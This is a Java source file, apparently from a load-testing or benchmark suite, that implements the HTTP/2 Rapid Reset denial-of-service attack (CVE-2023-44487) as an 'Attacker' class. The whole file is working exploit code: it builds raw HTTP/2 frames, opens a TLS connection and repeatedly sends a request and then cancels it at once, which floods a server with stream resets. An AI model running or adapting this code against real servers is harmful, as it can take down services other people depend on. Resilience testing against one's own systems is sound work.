package com.bpmcentr.loadtests.bench.scenario;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import org.jspecify.annotations.Nullable;

/** Asks by HTTP/2 and takes each question back at once (CVE-2023-44487). */
final class RapidReset implements Attacker {
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_STREAM_AND_HEADERS = 5;

  /** HPACK without tables of its own: GET, https, path and authority in plain letters. */
  private static final byte[] QUESTION = question();

  private final Target target;
  private final InetAddress from;
  private @Nullable Socket socket;
  private int stream;

  RapidReset(Target target, InetAddress from) {
    this.target = target;
    this.from = from;
  }

  private static byte[] question() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x82);
    block.write(0x87);
    literal(block, 4, "/v1/verify?connector=rozetka&account=1");
    literal(block, 1, "e");
    return block.toByteArray();
  }

  private static void literal(ByteArrayOutputStream block, int name, String value) {
    block.write(name);
    block.write(value.length());
    block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
  }

  private static void frame(
      ByteArrayOutputStream frames, int type, int flags, int stream, byte[] payload) {
    frames.write(payload.length >> 16);
    frames.write(payload.length >> 8);
    frames.write(payload.length);
    frames.write(type);
    frames.write(flags);
    frames.write(stream >> 24);
    frames.write(stream >> 16);
    frames.write(stream >> 8);
    frames.write(stream);
    frames.writeBytes(payload);
  }

  @Override
  public String act() throws IOException {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    Socket open = socket;
    if (open == null) {
      open = target.secured(from, "h2");
      socket = open;
      stream = 1;
      frames.writeBytes(PREFACE);
      frame(frames, SETTINGS, 0, 0, new byte[0]);
    }
    InputStream in = open.getInputStream();
    in.skipNBytes(in.available());
    frame(frames, HEADERS, END_STREAM_AND_HEADERS, stream, QUESTION);
    frame(frames, RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
    stream += 2;
    open.getOutputStream().write(frames.toByteArray());
    return "taken back";
  }

  @Override
  public void giveUp() throws IOException {
    if (socket != null) {
      socket.close();
      socket = null;
    }
  }
}
